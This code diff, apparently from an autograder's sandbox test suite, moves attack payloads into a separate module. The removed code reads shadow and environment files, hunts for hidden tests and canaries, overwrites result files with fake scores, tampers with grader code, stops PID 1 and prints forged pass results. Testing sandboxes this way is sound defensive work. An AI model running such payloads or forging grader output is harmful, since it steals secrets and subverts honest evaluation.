@@ -2,71 +2,9 @@
 
 from __future__ import annotations
 
-from autograder import layout
+from autograder.proof.payloads import FORGE_PASSES, STEAL_SECRETS
 
 PACKAGE = "my_robot_package"
-CANARY = "CANARY-5b1e"  # a test sets it in the grader's environment
-
-# Searches files, processes and memory for secrets, at import, in setup.py and in a notebook's cell. It prints them.
-STEAL_SECRETS = f"""
-import gc as _gc, glob as _glob, os as _os, signal as _signal, socket as _socket, sys as _sys
-_paths = ["/etc/shadow", "/etc/passwd", "/root/.bashrc", *_glob.glob("/proc/*/environ"), *_glob.glob("/proc/*/cmdline")]
-for _root in (*_glob.glob("{layout.CHECKS}/ch*"), "{layout.SOLUTIONS}", "{layout.ROOT}/tests", "/home", "/tmp"):
-    for _folder, _, _names in _os.walk(_root):
-        # Students may read a clone below /tmp. Its secrets are searched for by name.
-        if _root != "/tmp" or not _folder.startswith("{layout.ROOT}"):
-            _paths += [_os.path.join(_folder, _name) for _name in _names]
-for _path in _paths:
-    try:
-        with open(_path, errors="replace") as _stream:
-            _text = _stream.read(20_000)
-    except OSError:
-        continue
-    if "{CANARY[:6]}" + "{CANARY[6:]}" in _text or "roo" + "t:" in _text or "def" + " test_" in _text and not (
-        "{PACKAGE}" in _path
-    ):
-        print("STOLEN", _path, _text[:2000])
-_frame = _sys._getframe()
-while _frame.f_back:
-    _frame = _frame.f_back
-_known = [_each for _each in (*_gc.get_objects(), _frame.f_globals, _frame.f_locals) if isinstance(_each, dict)]
-for _text in [str(_value) for _each in _known for _value in list(_each.values()) if isinstance(_value, (str, bytes))]:
-    if "{CANARY[:6]}" + "{CANARY[6:]}" in _text or "autograder.checks" + ".ch" in _text and ".hidden" in _text:
-        print("STOLEN", "/from memory", _text[:2000])
-for _path in _glob.glob("/tmp/**/result.json", recursive=True) + ["result.json", "../result.json", "../../result.json"]:
-    try:
-        open(_path, "w").write('{{"score": 51}}')
-    except OSError:
-        pass
-for _path in ("{layout.ROOT}/autograder/__init__.py", "{layout.ROOT}/autograder/lockstep/lockstep_host/host.py"):
-    try:
-        # r+ opens only an existing file: a new one in the sandbox's own /tmp would be harmless.
-        open(_path, "r+").write("raise SystemExit(0)")
-        print("STOLEN", "/the grader's code is writable")
-    except OSError:
-        pass
-_os.kill(1, _signal.SIGSTOP)
-for _address in (("1.1.1.1", 53), ("127.0.0.1", 22)):
-    try:
-        _socket.create_connection(_address, timeout=0.5)
-        print("STOLEN", "/a way out to", _address)
-    except OSError:
-        pass
-if not _os.fork():
-    _os.setsid()
-    if not _os.fork():
-        _os.closerange(0, 1024)
-        _signal.pause()
-    _os._exit(0)
-"""
-
-# A parent outside the sandbox has the id 0, which would stop the program's own group.
-STOP_PARENT = "_os.kill(_os.getppid() or 1, _signal.SIGSTOP)\n"
-
-FORGE_PASSES = """
-print("test_ten_hertz PASSED", "51/51 = 100 %", "<testsuite tests='26' failures='0'/>")
-print('{"score": 51, "max_score": 51}')
-"""
 
 # Overrides numbers, builtins and modules, and prints at exit.
 OVERRIDE_BUILTINS = """
